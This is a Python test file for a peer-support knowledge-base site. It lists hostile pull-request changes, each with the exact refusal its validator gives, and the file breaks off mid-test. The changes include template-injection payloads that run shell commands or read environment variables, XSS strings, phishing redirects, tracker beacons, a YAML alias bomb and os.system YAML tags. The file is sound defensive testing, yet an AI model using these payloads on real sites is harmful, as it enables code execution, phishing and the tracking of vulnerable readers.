"""Hostile inputs: what a pull request could try, and the exact message that refuses it.

Every change below was once possible, or is a close cousin of one that was. Each is applied to a copy of the
fixture project (tests/fixtures/minimal) or to a built page, and the test asserts every problem reported,
word for word. The contributor page docs/contribute/protecting-readers.md lists the same inputs; a test
keeps it true (run `python3 tests/unit/test_protection.py` to print the table it expects).
"""

from __future__ import annotations

import sys
from dataclasses import dataclass
from pathlib import Path

import jinja2
import pytest

if __name__ == "__main__":  # printing the table: make the tests' helpers importable
    sys.path.insert(0, str(Path(__file__).resolve().parents[1]))

from helpers import ROOT
from peerkb import htmlpolicy, render
from peerkb.cli import config_safe
from peerkb.models import Reference
from peerkb.pages import PageSandbox
from peerkb.problems import Problem
from peerkb.urls import rule_registry_only_grows

# A Lithuanian edition's configuration with what it may set, as in the project's mkdocs.lt.yml.
EDITION_CONFIG = "INHERIT: mkdocs.yml\ndocs_dir: docs/lt\nsite_name: Bandymas\ntheme:\n  language: lt\n"
# A translated page (docs/lt/recs.md, with the search words the check asks for once docs/lt/ has pages) that claims
# to translate the fixture's urgent-help page.
LT_SEARCH = ("write", "data/search.yml", (ROOT / "data" / "search.yml").read_text(encoding="utf-8"))
CLAIMS_HELP_PAGE = (
    "---\ntitle: Rekomendacijos\ndescription: Rekomendacijos bandymams.\naudience: [policymakers]\nlast_reviewed: 2026-01-01\n"
    "review_due: 2027-01-01\ntranslation:\n  source: world.md\n  source_sha256: " + "ab" * 32 + "\n  reviewed: false\n---\n\n"
    "# Rekomendacijos\n\n{{ recommendations() }}\n"
)

BOMB = 'a: &a ["x","x","x","x","x","x","x","x","x"]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\nd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\ne: [*d,*d,*d,*d,*d,*d,*d,*d,*d]\n'


@dataclass(frozen=True)
class Attack:
    """A change a pull request could make, and every problem the check reports for it."""

    id: str
    what: str
    change: tuple[str, ...]  # (Project method, file, arguments…)
    refused_with: list[str]
    prepare: tuple[tuple[str, ...], ...] = ()  # changes made first that the check accepts, as (Project method, file, arguments…)

    def apply(self, project) -> None:
        for method, rel, *args in (*self.prepare, self.change):
            getattr(project, method)(rel, *args)


ATTACKS = [
    Attack(
        "run-code-macros-info",
        "Run a shell command through the macros plugin's own function",
        ("append", "docs/index.md", "\n<!-- {{ macros_info.__globals__['os'].popen('id').read() }} -->\n"),
        [
            "docs/index.md:14: '__globals__' starts with '_': such names reach Python's internals and are not allowed on pages (a page shows text and calls the site's macros; to show template code as an example, put it in a raw block, as the page Edit a page shows)"
        ],
    ),
    Attack(
        "read-environment",
        "Print an environment variable (a token, in CI) through the configuration",
        ("append", "docs/index.md", "\n{{ config.__class__.__init__.__globals__['os'].environ['HOME'] }}\n"),
        [
            "docs/index.md:14: '__globals__' starts with '_': such names reach Python's internals and are not allowed on pages (a page shows text and calls the site's macros; to show template code as an example, put it in a raw block, as the page Edit a page shows)"
        ],
    ),
    Attack(
        "mro-route",
        "Reach Python's object graph from a string, with no names at all",
        ("append", "docs/index.md", "\n{{ ''.__class__.__mro__[1].__subclasses__() }}\n"),
        [
            "docs/index.md:14: '__subclasses__' starts with '_': such names reach Python's internals and are not allowed on pages (a page shows text and calls the site's macros; to show template code as an example, put it in a raw block, as the page Edit a page shows)"
        ],
    ),
    Attack(
        "computed-underscore",
        "Build an underscore name from pieces so no literal '_' name appears",
        ("append", "docs/index.md", "\n{{ cite['_' ~ '_globals__'] }}\n"),
        [
            "docs/index.md:14: only calls of the site's macros are allowed inside {{ … }} (the site's macros are avoid, bibliography, cite, country_facts, country_table, definitions_table, english, event, events, glossary, helplines, organisations_directory, recommendation_list, recommendations, recommendations_for, term, translation_status, wording_table)"
        ],
    ),
    Attack(
        "environment-name",
        "Use the build's Jinja environment from a page",
        ("append", "docs/index.md", "\n{{ environment.from_string('x') }}\n"),
        [
            "docs/index.md:14: 'environment' is not available on pages: they get the site's macros and nothing of the build (the site's macros are avoid, bibliography, cite, country_facts, country_table, definitions_table, english, event, events, glossary, helplines, organisations_directory, recommendation_list, recommendations, recommendations_for, term, translation_status, wording_table)"
        ],
    ),
    Attack(
        "include-file",
        "Include another file of the repository into a page",
        ("append", "docs/index.md", "\n{% include 'mkdocs.yml' %}\n"),
        [
            "docs/index.md:14: '{% include %}' is not allowed on pages (a page shows text and calls the site's macros; to show template code as an example, put it in a raw block, as the page Edit a page shows)"
        ],
    ),
    Attack(
        "import-template",
        "Import template code from another file",
        ("append", "docs/index.md", "\n{% import 'x.html' as x %}\n"),
        [
            "docs/index.md:14: '{% import %}' is not allowed on pages (a page shows text and calls the site's macros; to show template code as an example, put it in a raw block, as the page Edit a page shows)"
        ],
    ),
    Attack(
        "set-variable",
        "Define template variables and loops on a page",
        ("append", "docs/index.md", "\n{% for i in range(10) %}{{ i }}{% endfor %}\n"),
        [
            "docs/index.md:14: '{% for %}' is not allowed on pages (a page shows text and calls the site's macros; to show template code as an example, put it in a raw block, as the page Edit a page shows)"
        ],
    ),
    Attack(
        "macro-argument-expression",
        "Pass computed values into a site macro",
        ("append", "docs/index.md", "\n{{ cite(config.site_name) }}\n"),
        [
            "docs/index.md:14: 'config' is not available on pages: they get the site's macros and nothing of the build (the site's macros are avoid, bibliography, cite, country_facts, country_table, definitions_table, english, event, events, glossary, helplines, organisations_directory, recommendation_list, recommendations, recommendations_for, term, translation_status, wording_table)"
        ],
    ),
    Attack(
        "filter-call",
        "Apply a filter to run attribute lookups",
        ("append", "docs/index.md", "\n{{ cite('doe-2020') | attr('__class__') }}\n"),
        [
            "docs/index.md:14: only calls of the site's macros are allowed inside {{ … }} (the site's macros are avoid, bibliography, cite, country_facts, country_table, definitions_table, english, event, events, glossary, helplines, organisations_directory, recommendation_list, recommendations, recommendations_for, term, translation_status, wording_table)"
        ],
    ),
    Attack(
        "render-macros-meta",
        "Ask the plugin to render the page itself with render_macros: true",
        ("replace", "docs/index.md", "audience: [public]", "audience: [public]\nrender_macros: true"),
        [
            "docs/index.md:5: render_macros: is not a known field (known fields are: title, description, audience, last_reviewed, review_due, hide, search, keywords, print_button, translation)"
        ],
    ),
    Attack(
        "title-unclosed-tag",
        "A title with an unclosed tag that runs script in the header and 'Cite this page'",
        ("replace", "docs/index.md", "title: Fixture home", "title: Benefits<img src=data:, onerror=alert(1) alt=x hidden"),
        [
            "docs/index.md:2: title: contains '<', which is not allowed in a title or description (write plain words; for a quotation use ‘single’ or “curly” quotes)"
        ],
    ),
    Attack(
        "title-quote",
        'A title with a quotation mark that breaks out of <meta content="…">',
        ("replace", "docs/index.md", "title: Fixture home", "title: 'Home\" onfocus=\"alert(1)'"),
        [
            "docs/index.md:2: title: contains '\"', which is not allowed in a title or description (write plain words; for a quotation use ‘single’ or “curly” quotes)"
        ],
    ),
    Attack(
        "title-bidi",
        "A title with a right-to-left override that makes it read differently",
        ("replace", "docs/index.md", "title: Fixture home", 'title: "Home \u202egnp.exe"'),
        [
            "docs/index.md:2: title: contains U+202E, which is not allowed in a title or description (write plain words; for a quotation use ‘single’ or “curly” quotes)"
        ],
    ),
    Attack(
        "description-control",
        "A description with a control character",
        ("replace", "docs/index.md", "description: A page for tests.", 'description: "A page\x07 for tests."'),
        ["docs/index.md:3: YAML syntax error: the text holds a control character (U+0007) (delete it; it is invisible in most editors, so retype the line)"],
    ),
    Attack(
        "script-on-page",
        "A <script> on a page that sends readers of the help page elsewhere",
        ("append", "docs/index.md", '\n<script>location.replace("https://phish.example/help")</script>\n'),
        [
            "docs/index.md:14: raw HTML <script> is not allowed on pages (write Markdown; the HTML tags a page may use are abbr, br, div, img, kbd, span, sub, sup)"
        ],
    ),
    Attack(
        "tracking-srcset",
        "A lazy tracking image in srcset, below the fold",
        ("append", "docs/index.md", '\n<img alt="" loading=lazy srcset="https://tracker.example/p.gif 1x">\n'),
        [
            "docs/index.md:14: <img loading=…> is not allowed on pages (the attributes a page may use are alt, class, dir, height, id, lang, markdown, role, src, title, width)",
            "docs/index.md:14: <img srcset=…> is not allowed on pages (the attributes a page may use are alt, class, dir, height, id, lang, markdown, role, src, title, width)",
        ],
    ),
    Attack(
        "style-tracker",
        "A <style> block whose hover rule loads from a tracker",
        ("append", "docs/index.md", "\n<style>a:hover{background:url(https://tracker.example/h)}</style>\n"),
        [
            "docs/index.md:14: raw HTML <style> is not allowed on pages (write Markdown; the HTML tags a page may use are abbr, br, div, img, kbd, span, sub, sup)"
        ],
    ),
    Attack(
        "onclick-handler",
        "An event-handler attribute in raw HTML",
        ("append", "docs/index.md", '\n<span onmouseover="alert(1)">hover</span>\n'),
        [
            "docs/index.md:14: <span onmouseover=…> is not allowed on pages (the attributes a page may use are alt, class, dir, height, id, lang, markdown, role, src, title, width)"
        ],
    ),
    Attack(
        "card-grid-handler",
        "A grid of cards, as the home page uses, that also carries an event handler or a style",
        ("append", "docs/index.md", '\n<div class="grid cards" markdown onclick="alert(1)" style="display:none">\n\n- x\n\n</div>\n'),
        [
            "docs/index.md:14: <div onclick=…> is not allowed on pages (the attributes a page may use are alt, class, dir, height, id, lang, markdown, role, src, title, width)",
            "docs/index.md:14: <div style=…> is not allowed on pages (the attributes a page may use are alt, class, dir, height, id, lang, markdown, role, src, title, width)",
        ],
    ),
    Attack(
        "javascript-link",
        "A javascript: link in Markdown",
        ("append", "docs/index.md", "\n[Call us](javascript:alert(1))\n"),
        ["docs/index.md:14: 'javascript:' addresses are not allowed (links go to https: pages, the site's own pages or mailto: addresses)"],
    ),
    Attack(
        "form-action",
        "A form that posts what readers type to another host",
        ("append", "docs/index.md", '\n<form action="https://phish.example/"><input name=q></form>\n'),
        [
            "docs/index.md:14: raw HTML <form> is not allowed on pages (write Markdown; the HTML tags a page may use are abbr, br, div, img, kbd, span, sub, sup)",
            "docs/index.md:14: raw HTML <input> is not allowed on pages (write Markdown; the HTML tags a page may use are abbr, br, div, img, kbd, span, sub, sup)",
        ],
    ),
    Attack(
        "iframe",
        "An iframe from another host",
        ("append", "docs/index.md", '\n<iframe src="https://ads.example/"></iframe>\n'),
        [
            "docs/index.md:14: raw HTML <iframe> is not allowed on pages (write Markdown; the HTML tags a page may use are abbr, br, div, img, kbd, span, sub, sup)"
        ],
    ),
    Attack(
        "meta-refresh",
        "A <meta http-equiv=refresh> that sends readers away",
        ("append", "docs/index.md", '\n<meta http-equiv="refresh" content="0;url=https://phish.example/">\n'),
        [
            "docs/index.md:14: raw HTML <meta> is not allowed on pages (write Markdown; the HTML tags a page may use are abbr, br, div, img, kbd, span, sub, sup)"
        ],
    ),
    Attack(
        "markdown-tracking-image",
        "A Markdown image from a tracking host",
        ("append", "docs/index.md", "\n![](https://tracker.example/pixel.gif)\n"),
        [
            "docs/index.md:14: 'https://tracker.example/pixel.gif' would load from another host (an image must be a file of this site)",
            "docs/index.md:14: image 'https://tracker.example/pixel.gif' has no alt text (describe what the image shows in the square brackets, for example ![Two peer workers talking at a table](https://tracker.example/pixel.gif); if it is only decoration, add { role=presentation } right after it)",
        ],
    ),
    Attack(
        "attr-list-handler",
        "An event handler added with an attribute list",
        ("append", "docs/index.md", '\nHover here\n{ onmouseover="alert(1)" }\n'),
        [
            "docs/index.md:15: the attribute 'onmouseover' is not allowed in { … } on pages (attribute lists may set class, dir, height, id, lang, role, title, width)"
        ],
    ),
    Attack(
        "tel-link-in-page",
        "A tel: link written by hand, which dials a number no one checked",
        ("append", "docs/index.md", "\n[Call 0 800 28888](tel:+37090012345)\n"),
        [
            "docs/index.md:14: 'tel:+37090012345': tel: links are made only by the helplines macro (show a number with {{ helplines(\"lt\") }}, so it is always one checked in data/helplines.yml)"
        ],
    ),
    Attack(
        "credentials-link",
        "A link whose host is hidden behind a user name",
        ("append", "docs/index.md", "\n[Samaritans](https://www.samaritans.org@phish.example/)\n"),
        [
            "docs/index.md:14: 'https://www.samaritans.org@phish.example/' has a user name or password in its address (it may lead somewhere else than it shows) (links go to https: pages, the site's own pages or mailto: addresses)"
        ],
    ),
    Attack(
        "lookalike-link",
        "A link to a host spelled with a Cyrillic letter",
        ("append", "docs/index.md", "\n[Samaritans](https://www.sаmaritans.org/)\n"),
        [
            "docs/index.md:14: 'https://www.sаmaritans.org/' has a host with non-ASCII letters (it may imitate another site's name) (links go to https: pages, the site's own pages or mailto: addresses)"
        ],
    ),
    Attack(
        "http-link",
        "A link over plain http:",
        ("append", "docs/index.md", "\n[Help](http://example.org/help)\n"),
        [
            "docs/index.md:14: 'http://example.org/help' is not an https: address (links go only to https:, mailto: and the site's own pages) (links go to https: pages, the site's own pages or mailto: addresses)"
        ],
    ),
    Attack(
        "data-javascript-link",
        "A javascript: link in a Markdown field of a data file",
        ("replace", "data/countries.yml", "status: A recognised job.", "status: A recognised [job](javascript:alert(1))."),
        [
            "data/countries.yml:10: entry 'xx' → profile.status: links to 'javascript:alert(1' (links in data go only to https: pages, mailto: addresses or the site's own pages)"
        ],
    ),
    Attack(
        "data-tracking-image",
        "A tracking image in a Markdown field of a data file",
        ("replace", "data/countries.yml", "status: A recognised job.", "status: A recognised job ![](https://tracker.example/p.gif)"),
        [
            "data/countries.yml:10: entry 'xx' → profile.status: contains an image (data text shows no images: an image from another host would track readers; remove it)"
        ],
    ),
    Attack(
        "data-credentials-url",
        "A source address with a user name before the real host",
        ("replace", "data/references.yml", "  doi: 10.1000/xyz", "  doi: 10.1000/xyz\n  url: https://www.samaritans.org@phish.example/"),
        [
            "data/references.yml:8: entry 'doe-2020' → url: 'https://www.samaritans.org@phish.example/' has a user name or password before its host (an address like https://site.org@other.example/ leads to other.example; write the real address)"
        ],
    ),
    Attack(
        "data-lookalike-url",
        "A source address on a host spelled with a Cyrillic letter",
        ("replace", "data/references.yml", "  doi: 10.1000/xyz", "  doi: 10.1000/xyz\n  url: https://www.sаmaritans.org/"),
        [
            "data/references.yml:8: entry 'doe-2020' → url: 'https://www.sаmaritans.org/' has non-ASCII letters in its host (a host written with look-alike letters can imitate another site; type the address in plain ASCII letters)"
        ],
    ),
    Attack(
        "data-http-url",
        "A source address over plain http:",
        ("replace", "data/references.yml", "  doi: 10.1000/xyz", "  doi: 10.1000/xyz\n  url: http://example.org/report"),
        [
            "data/references.yml:8: entry 'doe-2020' → url: 'http://example.org/report' is not a secure (https:) address (the site links only to https: addresses; write https:// and check that the page opens)"
        ],
    ),
    Attack(
        "yaml-alias-bomb",
        "A few hundred bytes of YAML aliases that expand to gigabytes",
        ("write", "data/definitions.yml", BOMB),
        [
            "data/definitions.yml:2: the alias '*a' repeats another part of the file (write the value out in full: data files may not repeat parts of themselves with YAML aliases (*name))"
        ],
    ),
    Attack(
        "yaml-python-tag",
        "A Python tag in a data file, reported before its knock-on errors",
        ("replace", "data/references.yml", "- id: doe-2020", "- id: !!python/object/apply:os.system [id]"),
        [
            "data/references.yml:1: the tag '!!python/object/apply:os.system' is not allowed (remove it: this file holds plain text, numbers, lists and fields; a tag can make a YAML loader run code)"
        ],
    ),
    Attack(
        "yaml-tab",
        "A tab used for indentation, reported before its knock-on errors",
        ("replace", "data/references.yml", "  type: article", "\ttype: article"),
        ["data/references.yml:2: YAML syntax error: a tab is used for indentation (indent with spaces only)"],
    ),
    Attack(
        "config-python-tag",
        "A Python tag in mkdocs.yml that MkDocs' own loader would run",
        ("replace", "mkdocs.yml", "help_page: world/", "help_page: world/\n  x: !!python/object/apply:os.system [id]"),
        [
            "mkdocs.yml:20: the tag '!!python/object/apply:os.system' is not allowed (remove it: this file holds plain text, numbers, lists and fields, and !ENV; a tag can make a YAML loader run code)"
        ],
    ),
    Attack(
        "config-render-by-default",
        "Letting the macros plugin render pages itself, outside the sandbox",
        ("replace", "mkdocs.yml", "      render_by_default: false\n", ""),
        [
            "mkdocs.yml:11: macros: render_by_default must be false (pages are rendered by the site's package in a sandbox; the plugin's own rendering would give pages the build's internals)"
        ],
    ),
    Attack(
        "config-hook",
        "A hooks file of one's own, which MkDocs runs as code",
        ("append", "mkdocs.yml", "hooks:\n  - evil.py\n"),
        [
            "mkdocs.yml:25: hooks must be ['scripts/peerkb/hooks.py'], not ['evil.py'] (MkDocs runs every hooks file as code, and the site's own one checks every built page; change scripts/peerkb/hooks.py instead)"
        ],
    ),
    Attack(
        "edition-config-hook",
        "A hooks file of one's own in the Lithuanian edition's configuration, which MkDocs runs as code",
        ("write", "mkdocs.lt.yml", EDITION_CONFIG + "hooks:\n  - evil.py\n"),
        ["mkdocs.lt.yml:6: 'hooks' may not be set here (mkdocs.lt.yml inherits everything else from mkdocs.yml: change the setting there, for every language)"],
    ),
    Attack(
        "edition-config-plugins",
        "Plugins of its own in the Lithuanian edition's configuration (the macros plugin rendering pages itself)",
        ("write", "mkdocs.lt.yml", EDITION_CONFIG + "plugins:\n  - macros:\n      render_by_default: true\n"),
        [
            "mkdocs.lt.yml:6: 'plugins' may not be set here (mkdocs.lt.yml inherits everything else from mkdocs.yml: change the setting there, for every language)"
        ],
    ),
    Attack(
        "edition-config-python-tag",
        "A Python tag in the Lithuanian edition's configuration that MkDocs' own loader would run",
        ("write", "mkdocs.lt.yml", EDITION_CONFIG.replace("site_name: Bandymas", "site_name: !!python/object/apply:os.system [id]")),
        [
            "mkdocs.lt.yml:3: the tag '!!python/object/apply:os.system' is not allowed (remove it: this file holds plain text, numbers, lists and fields; a tag can make a YAML loader run code)"
        ],
    ),
    Attack(
        "translation-claims-another-page",
        "A Lithuanian page that claims to translate another page (the urgent-help page), to be listed as its translation",
        ("write", "docs/lt/recs.md", CLAIMS_HELP_PAGE),
        [
            "docs/lt/recs.md:7: translation: source is 'world.md', but this page translates 'recs.md', the English page with the same path (a translation has the same path under docs/lt/ as its English page under docs/)"
        ],
        prepare=(LT_SEARCH,),
    ),
    Attack(
        "report-email-extra-recipient",
        "An address for reports that copies every reader's message to someone else",
        ("replace", "mkdocs.yml", "help_page: world/", 'help_page: world/\n  report_email: "help@example.org?bcc=harvest@tracker.example"'),
        [
            "mkdocs.yml:20: extra: report_email 'help@example.org?bcc=harvest@tracker.example' is not an email address (write one plain address, such as corrections@example.org, or remove the setting; it becomes the 'Email us about this page' link on every page)"
        ],
    ),
    Attack(
        "redirect-off-site",
        "A redirect from an old address to another host",
        ("replace", "mkdocs.yml", "redirect_maps: {}", "redirect_maps:\n        old.md: https://phish.example/help"),
        [
            "mkdocs.yml:18: redirect 'old.md' leads off the site, to 'https://phish.example/help' (a redirect may only lead to a page of this site, given as its path under docs/, e.g. 'peer-support/forms.md')"
        ],
    ),
    Attack(
        "redirect-hides-page",
        "A redirect from a page that exists, hiding it",
        ("replace", "mkdocs.yml", "redirect_maps: {}", "redirect_maps:\n        lists.md: recs.md"),
        [
            "mkdocs.yml:18: redirect 'lists.md': docs/lists.md exists, so a redirect would hide it (a redirect keeps the address of a page that has moved; remove it, or move the page first)"
        ],
    ),
    Attack(
        "redirect-help-page",
        "A redirect of the urgent-help page",
        ("replace", "mkdocs.yml", "redirect_maps: {}", "redirect_maps:\n        world.md: lists.md"),
        [
            "mkdocs.yml:18: redirect 'world.md': the urgent-help page may never be redirected (readers in crisis and other sites link to it; edit the page instead)"
        ],
    ),
    Attack(
        "help-page-out-of-search",
        "The urgent-help page left out of search",
        ("replace", "docs/world.md", "audience: [public, policymakers]", "audience: [public, policymakers]\nsearch:\n  exclude: true"),
        ["docs/world.md:1: the urgent-help page may not be left out of search (remove search: exclude from its front matter)"],
    ),
    Attack(
        "help-page-for-contributors",
        "The urgent-help page marked as a page for contributors, which search lists apart, after every other result",
        ("replace", "docs/world.md", "audience: [public, policymakers]", "audience: [contributors]"),
        ["docs/world.md:1: the urgent-help page must have the audience public (add public to its audience: search lists it for everyone)"],
    ),
    Attack(
        "keyword-crisis-word",
        "A page claims a crisis word as a search keyword, to stand where a person in distress is looking",
        ("replace", "docs/lists.md", "audience: [researchers]", "audience: [researchers]\nkeywords: [membership, want to die now]"),
        [
            "docs/lists.md:5: the keyword 'want to die now' is a crisis word ('want to die') (a search for it shows the urgent-help card and page first; only the urgent-help page may list it)"
        ],
    ),
    Attack(
        "keyword-stuffing",
        "A page stuffs its search keywords to rank first for everything",
        ("replace", "docs/lists.md", "audience: [researchers]", "audience: [researchers]\nkeywords: [a1, a2, a3, a4, a5, a6, a7, a8, a9, a10, a11]"),
        ["docs/lists.md:5: keywords: has more than 10 items (list at most 10)"],
    ),
    Attack(
        "keyword-markup",
        "Markup in a search keyword, which the theme writes into the page",
        ("replace", "docs/lists.md", "audience: [researchers]", "audience: [researchers]\nkeywords: ['<img src=x onerror=alert(1)>']"),
        [
            "docs/lists.md:5: keywords: contains HTML ('<img src=x onerror=alert(1)>') (data holds plain text; write it without tags (Markdown fields accept *emphasis* and [links](https://…)))",
        ],
    ),
    Attack(
        "search-weight-attribute",
        "Raw HTML that weighs hidden words for search (a data-pagefind- attribute)",
        ("append", "docs/index.md", '\n<span class="x" data-pagefind-weight="10">suicide</span>\n'),
        [
            "docs/index.md:14: <span data-pagefind-weight=…> is not allowed on pages (the attributes a page may use are alt, class, dir, height, id, lang, markdown, role, src, title, width)"
        ],
    ),
    Attack(
        "crisis-phrase-markup",
        "Markup in a crisis phrase, which the search card is built from",
        ("replace", "data/search.yml", "    - suicide\n", "    - suicide\n    - '<b>die</b>'\n"),
        [
            "data/search.yml:9: entry 'en' → crisis_phrases: contains HTML ('<b>') (data holds plain text; write it without tags (Markdown fields accept *emphasis* and [links](https://…)))",
        ],
    ),
    Attack(
        "search-language-missing",
        "The search words of the site's language removed, so no query shows the urgent-help card",
        ("replace", "data/search.yml", "- id: en", "- id: fr"),
        ["data/search.yml:1: has no entry for the site's language 'en' (add an entry with id: en, as for the other languages)"],
    ),
    Attack(
        "wording-pattern",
        "A regular expression among the endings of a phrase to avoid, to flag every word (or to make the check hang)",
        ("replace", "data/wording.yml", '["suffers from", "suffering from"]', '["suffers from", "ligon(is|.*)"]'),
        [
            "data/wording.yml:3: entry 'suffers-from' → avoid: 'ligon(is|.*)' is not a phrase of words with their endings in brackets (write words of letters; "
            "for a word whose ending changes, list its endings in brackets, separated by |, e.g. ligon(is|io|iui), without spaces or brackets inside brackets)"
        ],
    ),
    Attack(
        "interface-string-markup",
        "Markup in one of the site's own words (a link in the feedback heading that every page shows)",
        (
            "replace",
            "data/interface.yml",
            "feedback_heading: {en: Something wrong or missing?,",
            "feedback_heading: {en: '<a href=\"https://phish.example/\">Something wrong?</a>',",
        ),
        [
            "data/interface.yml:42: entry 'feedback_heading' → en: contains HTML ('<a href=\"https://phish.example/\">') (interface strings are plain text, shown escaped; the templates add any markup around them)"
        ],
    ),
    Attack(
        "asset-beacon",
        "A script in the site's assets that sends readers' visits to a tracker, hidden from headless browsers",
        ("write", "docs/beacon.js", "if (!navigator.webdriver) navigator.sendBeacon('https://tracker.example/b', location.href)\n"),
        [
            "docs/beacon.js:1: names another host ('https://tracker.example') (the site's scripts and stylesheets load and send nothing to other sites; keep every address on this site)"
        ],
    ),
    Attack(
        "asset-css-import",
        "A stylesheet that imports another from a tracking host",
        ("write", "docs/extra.css", "@import url(https://tracker.example/s.css);\n"),
        [
            "docs/extra.css:1: CSS @import is not allowed (the site's scripts and stylesheets load and send nothing to other sites; keep every address on this site)"
        ],
    ),
    Attack(
        "asset-css-url",
        "A stylesheet whose hover rule loads an image from a tracker",
        ("write", "docs/extra.css", "a:hover { background: url(https://tracker.example/h.gif); }\n"),
        [
            "docs/extra.css:1: CSS url(): 'https://tracker.example/h.gif' would load from another host (the site's scripts and stylesheets load and send nothing to other sites; keep every address on this site)"
        ],
    ),
    Attack(
        "duplicate-sources-id",
        "A heading with the id of the source list the build adds, so citation links land in the wrong place",
        ("append", "docs/index.md", "\n## Where this comes from {#sources}\n"),
        [
            "docs/index.md:14: the heading id 'sources' is kept for the list of sources the build adds to every page that cites (give the heading another id, e.g. {#about-sources})"
        ],
    ),
    Attack(
        "translation-markup",
        "Markup in a translation, which pages in that language show",
        ("replace", "data/translations/lt/helplines.yml", "hours: Visada", "hours: <img src=x onerror=alert(1)>"),
        [
            "data/translations/lt/helplines.yml:5: entry 'xx-line' → hours: contains HTML ('<img src=x onerror=alert(1)>') (data holds plain text; write it without tags (Markdown fields accept *emphasis* and [links](https://…)))"
        ],
    ),
    Attack(
        "translation-unknown-id",
        "A translation for an entry that does not exist, to put words on pages that no English entry backs",
        ("append", "data/translations/lt/helplines.yml", "xx-fake-line:\n    for_whom: Visiems\n"),
        [
            "data/translations/lt/helplines.yml:6: 'xx-fake-line' is not a helpline id (did you mean 'xx-line'? a translation is kept under the id of its English entry, listed in data/helplines.yml)"
        ],
    ),
    Attack(
        "translation-javascript-link",
        "A javascript: link in a translated Markdown field",
        ("replace", "data/translations/lt/glossary.yml", "definition: Terminas bandymams.", "definition: Terminas [bandymams](javascript:alert(1))."),
        [
            "data/translations/lt/glossary.yml:3: entry 'test-term' → definition: links to 'javascript:alert(1' (links in data go only to https: pages, mailto: addresses or the site's own pages)"
        ],
    ),
]


def test_a_grid_of_cards_in_markdown_is_allowed_on_pages():
    """The home page's cards: Material's grid of cards, a <div> whose Markdown (md_in_html) is a list."""
    body = '<div class="grid cards kb-start" markdown>\n\n-   ### A card {#a-card}\n\n    Start with [a page](page.md).\n\n</div>\n'
    assert htmlpolicy.rule_page_html("docs/index.md", body, 10) == []


@pytest.mark.parametrize("attack", ATTACKS, ids=[a.id for a in ATTACKS])
def test_the_check_refuses_it(project, attack):
    assert project.problems() == [], "the fixture must pass the check before it is attacked"
    attack.apply(project)
    assert project.problems() == attack.refused_with


def test_a_file_that_cannot_be_read_is_reported_first_without_knock_on_errors(project):
    """A Python tag in the wording file and an unrelated mistake in the countries file: the tag comes first,
    though 'countries' sorts before 'wording', and nothing that depends on the wording rules is reported."""
    project.replace(
        "data/wording.yml",
        "- id:",
        "- id: !!python/object/apply:os.system [id]\n  x:",
    )
    project.replace("data/countries.yml", "name: Testland", "name: Testland\n  nickname: T")
    problems = project.problems()
    assert problems == [
        "data/wording.yml:2: the tag '!!python/object/apply:os.system' is not allowed (remove it: this file holds plain text, numbers, lists and fields; a tag can make a YAML loader run code)",
        "data/countries.yml:3: entry 'xx' → nickname: is not a known field (did you mean 'name'?)",
    ]


def test_the_build_refuses_to_start_mkdocs_on_a_config_that_would_run_code(project, capsys):
    project.replace("mkdocs.yml", "help_page: world/", "help_page: !!python/object/apply:os.system ['touch pwned']")
    assert config_safe(project.root) is False
    assert capsys.readouterr().err == (
        "mkdocs.yml:19: the tag '!!python/object/apply:os.system' is not allowed (remove it: this file holds plain text, numbers, "
        "lists and fields, and !ENV; a tag can make a YAML loader run code)\n1 problem found; MkDocs was not started.\n"
    )
    assert not (project.root / "pwned").exists()


def test_removing_a_page_and_its_registry_line_together_fails_against_the_base_branch(tmp_path):
    base = tmp_path / "base-urls.txt"
    base.write_text((ROOT / "published-urls.txt").read_text(encoding="utf-8"), encoding="utf-8")
    work = tmp_path / "work"
    work.mkdir()
    lines = base.read_text(encoding="utf-8").splitlines()
    number = lines.index("/get-help-now/") + 1
    (work / "published-urls.txt").write_text("\n".join(line for line in lines if line != "/get-help-now/") + "\n", encoding="utf-8")
    assert [str(p) for p in rule_registry_only_grows(work, base)] == [
        f"published-urls.txt:{number}: '/get-help-now/' was removed; published addresses are never removed "
        '(put the line back; if the page moved, add a redirect from its old path (README, "Moving a page"))'
    ]
    assert rule_registry_only_grows(ROOT, base) == []


# --- the sandbox: what holds if a route is ever found that the check does not see -----------------------


@pytest.mark.parametrize(
    ("template", "error"),
    [
        ("{{ ''.__class__ }}", "access to attribute '__class__' of 'str' object is unsafe."),
        ("{{ cite['_' ~ '_globals__'] }}", "access to attribute '__globals__' of 'function' object is unsafe."),
        ("{{ cite.__globals__ }}", "access to attribute '__globals__' of 'function' object is unsafe."),
    ],
)
def test_the_sandbox_refuses_internals_at_render_time(template, error):
    sandbox = PageSandbox({"cite": lambda *keys: "(cited)"})
    with pytest.raises(jinja2.exceptions.SecurityError) as raised:
        sandbox.from_string(template).render()
    assert str(raised.value) == error


@pytest.mark.parametrize("name", ["config", "environment", "macros_info", "range", "lipsum", "namespace"])
def test_the_sandbox_gives_pages_nothing_but_the_macros(name):
    with pytest.raises(jinja2.exceptions.UndefinedError) as raised:
        PageSandbox({"cite": lambda *keys: "(cited)"}).from_string(f"{{{{ {name} }}}}").render()
    assert str(raised.value) == f"'{name}' is undefined"


def test_the_sandbox_has_no_loader_for_includes():
    with pytest.raises(TypeError) as raised:
        PageSandbox({}).from_string("{% include 'mkdocs.yml' %}").render()
    assert str(raised.value) == "no loader for this environment specified"


# --- text from data, placed in a Markdown page ---------------------------------------------------------


def _reference(**fields: object) -> Reference:
    return Reference(**{"id": "mead-2001", "type": "article", "authors": ["Mead, S."], "title": "A study", "year": 2001, "doi": "10.1000/x", **fields})


def test_markdown_in_an_author_is_shown_as_text_not_made_a_link():
    ref = _reference(authors=["Mead [et al.](javascript:alert(1))"])
    html = render.render_citation([ref], render.citation_labels([ref]))
    assert html == '<span class="kb-cite">(<a href="#ref-mead-2001">Mead &#91;et al.&#93;(javascript:alert(1)) 2001</a>)</span>'


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("A job { onmouseover=alert(1) }", "A job &#123; onmouseover=alert(1) &#125;"),
        ("A job ![x](https://tracker.example/p.gif)", "A job &#33;&#91;x&#93;(https://tracker.example/p.gif)"),
        ("A *job* `x` \\_", "A &#42;job&#42; &#96;x&#96; &#92;&#95;"),
    ],
)
def test_markdown_active_characters_in_data_text_reach_the_page_as_references(text, shown):
    assert render.markdown_safe(str(jinja2.utils.markupsafe.escape(text))) == shown


@pytest.mark.parametrize(
    ("markdown", "html"),
    [
